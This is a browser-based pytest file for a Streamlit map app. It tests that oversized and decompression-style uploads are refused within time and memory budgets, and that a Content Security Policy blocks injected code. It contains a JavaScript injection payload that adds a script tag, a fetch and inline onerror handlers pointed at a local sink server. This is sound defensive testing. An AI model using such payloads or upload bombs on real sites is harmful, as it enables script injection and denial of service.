"""Hostile uploads against a real `streamlit run app.py`: refused within 10 s, under 500 MB of extra server
memory, the server's memory back within 20 % of its level before, no parse left running; and the Content
Security Policy of the map frames (layers/csp.py): the maps draw, an injected script, fetch or inline handler
does not run.

The files are generated here: a legal-looking plan of a million characters, a 180 KB DOCX whose XML holds 13
million characters, a plan under the character budget whose parse outlasts the server's time budget (set to a
few seconds)."""

from __future__ import annotations

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from layers.serve import ARGS, CHROMIUM, MemoryWatch, free_port, open_layout, served_app
from tests.hostile import huge_docx, plan_text

pytestmark = pytest.mark.browser
MB = 2**20
BUDGET_SECONDS = 4


@pytest.fixture(scope="module")
def served(gpkg):
    """The explorer on the session's GeoPackage, with an upload time budget of a few seconds."""
    with served_app(PLAN_EXPLORER_GPKG=str(gpkg), PLAN_EXPLORER_UPLOAD_SECONDS=str(BUDGET_SECONDS)) as s:
        yield s


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    assert Path(CHROMIUM).exists(), "Debian chromium is required (bash scripts/setup.sh --test)"
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield b
        b.close()


def parses_running(pid: int) -> list[int]:
    """Processes spawned by the server to parse (multiprocessing's spawn children; its resource tracker
    aside)."""
    found = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            ppid = int(stat.read_text().rsplit(")", 1)[1].split()[1])
            cmd = (stat.parent / "cmdline").read_bytes()
        except (OSError, IndexError, ValueError):
            continue
        if ppid == pid and b"spawn_main" in cmd:
            found.append(int(stat.parent.name))
    return found


@pytest.mark.parametrize(
    "name,make,problem",
    [
        ("million.txt", lambda: plan_text(1_000_000).encode("utf-8"), "characters"),
        ("expands.docx", huge_docx, "characters"),
        ("slow.txt", lambda: plan_text(150_000).encode("utf-8"), f"took more than {BUDGET_SECONDS} s"),
    ],
)
def test_hostile_upload_is_refused_within_the_budgets(served, browser, tmp_path, name, make, problem):
    path = tmp_path / name
    path.write_bytes(make())
    page = browser.new_page()
    page.goto(served.url + "/page_upload", wait_until="domcontentloaded")
    page.wait_for_selector("input[type=file]", state="attached", timeout=60_000)
    page.wait_for_timeout(1000)
    with MemoryWatch(served.pid) as mem:
        t0 = time.perf_counter()
        page.set_input_files("input[type=file]", str(path))
        err = page.wait_for_selector("[data-testid=stAlertContentError]", timeout=60_000)
        elapsed = time.perf_counter() - t0
    text = err.inner_text()
    assert name in text and problem in text, text  # one message naming the file and the problem
    assert elapsed < 10, f"refused after {elapsed:.1f} s"
    assert mem.peak - mem.before < 500 * MB, f"server grew by {(mem.peak - mem.before) / MB:.0f} MB"
    page.close()
    time.sleep(3)
    assert mem.now() <= 1.2 * mem.before, (
        f"server at {mem.now() / MB:.0f} MB after, {mem.before / MB:.0f} MB before"
    )
    assert parses_running(served.pid) == []  # the parse was killed, not left running


class _Sink(BaseHTTPRequestHandler):
    """Counts every request that reaches it: a server outside the app an injected script would call."""

    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - the name http.server calls
        _Sink.hits.append(self.path)
        body = b"window.__injected = 1;" if self.path.endswith(".js") else b""
        self.send_response(200 if body else 404)
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


INJECT = """async (sink) => {
  const s = document.createElement('script'); s.src = sink + '/injected.js'; document.head.appendChild(s);
  let fetched = 'sent';
  try { await fetch(sink + '/fetch', {mode: 'no-cors'}); } catch (e) { fetched = 'blocked'; }
  const d = document.createElement('div');
  d.innerHTML = '<img src="' + sink + '/img.png" onerror="window.__handler = 1"><img src="x" onerror="window.__handler = 2">';
  document.body.appendChild(d);
  await new Promise(r => setTimeout(r, 1500));
  return {fetched, script: !!window.__injected, handler: !!window.__handler};
}"""  # noqa: E501


def test_map_frames_draw_under_a_policy_that_stops_injected_script(served, browser):
    _Sink.hits = []
    port = free_port()
    sink = ThreadingHTTPServer(("127.0.0.1", port), _Sink)
    threading.Thread(target=sink.serve_forever, daemon=True).start()
    try:
        page, frame, failed, external, _ = open_layout(browser, served.url)
        assert len(frame.query_selector_all(".leaflet-overlay-pane path")) > 60  # the map still draws
        assert frame.query_selector_all(".zh-label")  # labels placed by webmap.js: its script ran
        assert failed == [] and external == []  # nothing the map itself needs was refused
        result = frame.evaluate(INJECT, f"http://127.0.0.1:{port}")
        # nothing ran or left
        assert (result, _Sink.hits) == ({"fetched": "blocked", "script": False, "handler": False}, [])
        policy = frame.evaluate("document.querySelector('meta[http-equiv=Content-Security-Policy]')?.content")
        assert policy and "connect-src 'none'" in policy
        page.close()
    finally:
        sink.shutdown()
        sink.server_close()
